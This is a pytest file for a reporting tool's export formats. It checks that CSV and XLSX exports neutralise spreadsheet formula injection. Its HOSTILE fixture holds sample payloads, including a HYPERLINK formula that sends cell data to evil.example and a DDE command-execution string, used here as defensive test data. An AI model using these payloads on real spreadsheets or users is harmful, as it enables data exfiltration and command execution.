"""The one table of report formats, read by the CLI and the report API."""

from __future__ import annotations

import csv
import io
import json
from datetime import time

import pytest

from portal.api.reports import API_FORMATS
from portal.cli.reconcile import reconcile_command
from portal.reconcile.engine import CenterInput, Result, reconcile
from portal.reconcile.lessons import ScheduleEntry
from portal.reconcile.model import Confirmation, Member, ReconcileSettings
from portal.reconcile.report import CSV_COLUMNS, FORMATS, RENDERERS, render

from .support import DAY, START, ZONE, Log, confirm, run


def test_the_cli_offers_every_format_and_the_api_its_two() -> None:
    [fmt] = [p for p in reconcile_command.params if p.name == "fmt"]
    assert tuple(fmt.type.choices) == FORMATS == tuple(RENDERERS)  # type: ignore[attr-defined]
    assert API_FORMATS == ("json", "csv")  # the next formats come with their own change
    assert set(API_FORMATS) <= set(RENDERERS)


def test_every_renderer_gives_bytes_and_unknown_formats_are_refused() -> None:
    log = Log()
    log.boot_record(START - 3600_000)
    log.badge(START, "04A1B2C3")
    result = run([log.log], [confirm()])
    for name, renderer in RENDERERS.items():
        data = render(result, ZONE, name)
        assert data and renderer.extension and renderer.media_type, name
    assert json.loads(render(result, ZONE, "json"))["rows"][0]["status"] == "suspect"
    assert b"<table" in render(result, ZONE, "html")
    with pytest.raises(ValueError, match="is not one of table, csv, json, xlsx, html"):
        render(result, ZONE, "pdf")


HOSTILE = {
    "child": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "group": "@SUM(A1:A9)",
    "center": "+1+cmd|' /C calc'!A0",
    "other": "-2+3",
    "tab": "\t=1+1",
}


def _hostile_result() -> Result:
    h = HOSTILE
    schedule = [ScheduleEntry(h["group"], h["center"], 1, time(15, 0), time(16, 30), -250)]
    members = [
        Member(h["child"], h["group"], h["center"], frozenset({"04A1B2C3"})),
        Member(h["other"], h["group"], h["center"], frozenset({"04A1B2C4"})),
        Member(h["tab"], h["group"], h["center"], frozenset({"04A1B2C5"})),
    ]
    confs = [
        Confirmation(c, h["group"], DAY, "=1+2", "-signer")
        for c in (h["child"], h["other"], h["tab"])
    ]
    return reconcile(
        DAY,
        DAY,
        schedule=schedule,
        members=members,
        confirmations=confs,
        load_center=lambda c: CenterInput(c, [], []),
        settings=ReconcileSettings(),
        zone=ZONE,
    )


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() -> None:
    result = _hostile_result()
    assert result.rows
    lines = list(csv.reader(io.StringIO(render(result, ZONE, "csv").decode())))
    assert tuple(lines[0]) == CSV_COLUMNS
    price = CSV_COLUMNS.index("price_kzt")
    for line in lines[1:]:
        assert line[price] == "-250"  # a true negative number stays a number
        for cell in line[:price] + line[price + 1 :]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, line)
    cells = {c for line in lines[1:] for c in line}
    assert "'" + HOSTILE["child"] in cells and "'" + HOSTILE["center"] in cells
    assert "'" + HOSTILE["group"] in cells and "'" + HOSTILE["tab"] in cells


def test_xlsx_stores_hostile_names_as_text_not_formulas() -> None:
    from openpyxl import load_workbook

    result = _hostile_result()
    book = load_workbook(io.BytesIO(render(result, ZONE, "xlsx")))
    seen: set[object] = set()
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert {HOSTILE["child"], HOSTILE["group"], HOSTILE["center"], HOSTILE["other"]} <= seen
    assert -250 in seen  # numbers stay numbers
